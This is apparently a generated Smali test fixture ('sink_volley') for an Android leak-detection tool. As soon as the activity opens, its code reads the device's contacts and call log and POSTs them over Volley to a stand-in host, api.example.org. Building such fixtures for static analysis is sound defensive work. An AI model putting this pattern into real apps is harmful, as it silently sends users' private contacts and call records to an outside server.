# Made by tests/cases/compile.py
.class public final Lcases/sink_volley/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-static {p0}, Lcom/android/volley/toolbox/Volley;->newRequestQueue(Landroid/content/Context;)Lcom/android/volley/RequestQueue;
    move-result-object v0
    invoke-direct {p0, v0}, Lcases/sink_volley/Main;->json(Lcom/android/volley/RequestQueue;)V
    invoke-direct {p0, v0}, Lcases/sink_volley/Main;->form(Lcom/android/volley/RequestQueue;)V
    return-void
.end method

.method private json(Lcom/android/volley/RequestQueue;)V
    .registers 16
    invoke-virtual {p0}, Lcases/sink_volley/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v3
    sget-object v4, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v5, 0x0
    const/4 v6, 0x0
    const/4 v7, 0x0
    const/4 v8, 0x0
    invoke-virtual/range {v3 .. v8}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    new-instance v1, Lorg/json/JSONObject;
    invoke-direct {v1}, Lorg/json/JSONObject;-><init>()V
    :l_1e
    const-string v3, "name"
    const/4 v4, 0x0
    invoke-interface {v0, v4}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v4
    invoke-virtual {v1, v3, v4}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    :l_2c
    goto :l_32
    :l_2f
    move-exception v2
    return-void
    :l_32
    new-instance v3, Lcom/android/volley/toolbox/JsonObjectRequest;
    const/4 v4, 0x1
    const-string v5, "https://api.example.org/v1/contacts"
    const/4 v6, 0x0
    const/4 v7, 0x0
    move-object v8, v3
    move v9, v4
    move-object v10, v5
    move-object v11, v1
    move-object v12, v6
    move-object v13, v7
    invoke-direct/range {v8 .. v13}, Lcom/android/volley/toolbox/JsonObjectRequest;-><init>(ILjava/lang/String;Lorg/json/JSONObject;Lcom/android/volley/Response$Listener;Lcom/android/volley/Response$ErrorListener;)V
    invoke-virtual {p1, v3}, Lcom/android/volley/RequestQueue;->add(Lcom/android/volley/Request;)Lcom/android/volley/Request;
    return-void
    .catch Lorg/json/JSONException; {:l_1e .. :l_2c} :l_2f
.end method

.method private form(Lcom/android/volley/RequestQueue;)V
    .registers 16
    invoke-virtual {p0}, Lcases/sink_volley/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v2
    sget-object v3, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v6, 0x0
    const/4 v7, 0x0
    invoke-virtual/range {v2 .. v7}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const/4 v2, 0x0
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    new-instance v2, Lcases/sink_volley/Main$1;
    const/4 v3, 0x1
    const-string v4, "https://api.example.org/v1/calls"
    const/4 v5, 0x0
    const/4 v6, 0x0
    move-object v7, v2
    move-object v8, p0
    move v9, v3
    move-object v10, v4
    move-object v11, v5
    move-object v12, v6
    move-object v13, v1
    invoke-direct/range {v7 .. v13}, Lcases/sink_volley/Main$1;-><init>(Lcases/sink_volley/Main;ILjava/lang/String;Lcom/android/volley/Response$Listener;Lcom/android/volley/Response$ErrorListener;Ljava/lang/String;)V
    invoke-virtual {p1, v2}, Lcom/android/volley/RequestQueue;->add(Lcom/android/volley/Request;)Lcom/android/volley/Request;
    return-void
.end method
